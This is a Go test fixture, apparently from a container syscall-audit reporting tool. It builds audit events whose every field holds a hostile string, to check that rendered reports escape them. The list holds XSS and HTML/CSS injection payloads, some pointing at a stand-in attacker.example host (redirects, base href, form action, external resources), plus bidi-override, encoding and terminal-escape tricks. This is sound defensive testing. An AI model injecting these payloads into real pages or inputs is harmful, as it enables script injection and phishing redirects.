// SPDX-License-Identifier: Apache-2.0

package reporttest

import (
	"strings"
	"time"

	"metsuke.dev/metsuke/audit"
)

// Sentinel is a property of a page's window that hostile strings set if they are run.
const Sentinel = "owned"

// Strings are what a workload can put into whatever it has a hand in, to be run by a page, to break out of where it stands, or to pass for
// something else.
var Strings = []string{
	`<script>window.owned=1</script>`,
	`</script><script>window.owned=2</script>`,
	`</style><style>*{display:none}</style>`,
	`</title></textarea></xmp><svg onload=window.owned=3>`,
	`"><img src=x onerror=window.owned=4>`,
	`'><img src='https://attacker.example/x.png' onerror='window.owned=5'>`,
	`" onmouseover="window.owned=6" x="`,
	"' autofocus onfocus='window.owned=7' tabindex='1",
	"` onerror=window.owned=8 `",
	`javascript:window.owned=9`,
	`data:text/html,<script>parent.owned=10</script>`,
	`<a href="javascript:window.owned=11">click</a>`,
	`<iframe srcdoc="<script>parent.owned=12</script>"></iframe>`,
	`<object data="https://attacker.example/"></object><embed src="https://attacker.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
	`<base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/x.css">`,
	`<form action="https://attacker.example/"><button autofocus>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=13&gt;">`,
	`<!-- --!><script>window.owned=14</script>`, `]]><script>window.owned=15</script>`, `<![CDATA[<script>window.owned=16</script>]]>`,
	`&lt;script&gt;window.owned=17&lt;/script&gt;`, `&#60;script&#62;`, `&quot;&apos;&amp;`,
	`{{.Script}}{{define "text"}}`, `${window.owned=18}`, `";window.owned=19;//`, `';window.owned=20;//`, `\x3cscript\x3e`,
	`url(https://attacker.example/x)`, `expression(window.owned=21)`, `}*{background:url(//attacker.example)}`,
	"\u202etxt.exe\u202d", "\u2066\u2067\u2068\u2069\u061c\u200e\u200f", "a\u2028b\u2029c", "\ufeff\u200b\u2060\u00ad", "\U000e0041\U000e0042",
	"\xff\xfe\x80<script>", "+ADw-script+AD4-window.owned=22+ADw-/script+AD4-", "\xc0\xbcscript\xc0\xbe", "a\xed\xa0\x80b", "\x00\x00<\x00b\x00>", "nul\x00nul",
	"\x1b[2J\x1b]0;title\x07\x1b[31m", "line\nline\r\nline\ttab\v\f\b\x7f\u0085\u009b31m", strings.Repeat("A", audit.MaxValue+9), strings.Repeat("<b>", 2000),
	strings.Repeat("e\u0301\u0323", 600), strings.Repeat("\u202e", 300), strings.Repeat("\U0001f468\u200d\U0001f469", 80), "", " ", "\u3000", "שלום", "#denials", "%00%3Cscript%3E",
}

// Hostile is instances all of whose strings are hostile: each of Strings stands in each field once.
func Hostile() (instances []Instance) {
	at := begin
	for i := range Strings {
		next := i
		s := func() string { // another one in each field
			next++
			return Strings[next%len(Strings)]
		}
		instances = append(instances, hostile(&at, uint32(i), s))
	}
	return instances
}

func hostile(at *time.Time, pid uint32, s func() string) Instance {
	arg := func(name string, e audit.Evidence) audit.Arg { return audit.Arg{Name: name, Value: s(), Evidence: e} }
	call := func(class, name string, v audit.Verdict, args ...audit.Arg) *audit.Syscall {
		return &audit.Syscall{
			PID: 1000 + pid%7, TID: pid, PPID: 1000 + pid%3, Comm: s(), Exe: s(), Syscall: name, Arch: s(), Args: args, Class: class, Verdict: v,
			Errno: s(), RuleID: s(), Origin: s(),
		}
	}
	calls := []*audit.Syscall{
		call("exec", "execve", audit.VerdictAllowed, arg("path", audit.EvidencePeeked), arg("argv", audit.EvidencePeeked)),
		call("exec", "execve", audit.VerdictAllowed, arg("path", audit.EvidencePeeked), arg("argv", audit.EvidencePeeked)),
		call("net", "connect", audit.VerdictAllowed, arg("addr", audit.EvidencePeeked), arg("fd", audit.EvidenceRegister)),
		call("net", s(), audit.VerdictDenied, arg("addr", audit.EvidencePeeked), arg(s(), audit.Evidence(s()))),
		call("file-write", "openat", audit.VerdictAllowed, arg("path", audit.EvidencePeeked), arg("flags", audit.EvidenceRegister)),
		call("file-write", "symlink", audit.VerdictAllowed, arg("target", audit.Evidence(s())), arg("path", audit.Evidence(s()))),
		call("file-delete", "rename", audit.VerdictAllowed, arg("from", audit.EvidencePeeked), arg("to", audit.EvidencePeeked)),
		call(s(), s(), audit.Verdict(s()), arg(s(), audit.EvidenceRegister), arg(s(), audit.EvidencePeeked)),
		call("", s(), audit.VerdictKilled, arg("path", audit.EvidencePeeked)),
	}
	events := []audit.Event{
		{Kind: audit.KindStart, Receipt: &audit.Receipt{
			Version: s(), Kernel: s(), Placement: s(), Delegate: s(), Image: s(), PID: 1000, FilterDigest: s(), OnLoss: s(), NoNewPrivs: true,
			Limits: []audit.ReceiptLimit{{Name: s(), Asked: s(), Found: s()}, {Name: s(), Asked: s()}},
		}},
		{Kind: audit.KindExec, Exec: s(), ExecStart: &audit.ExecStart{PID: 1003 + pid%4, Argv: []string{s(), s(), s()}}},
		{Kind: audit.KindLimit, Limit: &audit.Limit{Operation: s(), Resource: s(), Requested: s(), Ceiling: s(), Applied: s()}},
		{Kind: audit.KindOOM, OOM: &audit.OOM{Count: 1, MemoryLimit: 2}},
		{Kind: audit.KindLoss, Loss: &audit.Loss{Reason: s(), Count: 3, Bytes: 4, OnLoss: s(), Detail: s()}},
	}
	for _, c := range calls {
		events = append(events, audit.Event{Kind: audit.KindSyscall, Exec: "", Syscall: c})
	}
	events = append(events, audit.Event{Kind: audit.KindExit, Exit: &audit.Exit{Status: 1, Signal: s(), Cause: s()}})
	for i := range events {
		*at = at.Add(time.Second)
		events[i].Time = *at
	}
	name := func() string { // as long as whoever writes a pod can make it
		text := s()
		return text[:min(len(text), maxName)]
	}
	return Instance{audit.Identity{
		Node: name(), Namespace: "hostile", Pod: "hostile", PodUID: name(), Container: name(), ContainerID: name(), Profile: name(), ProfileDigest: name(),
	}, events}
}

const maxName = 253 // bytes, of a name in Kubernetes
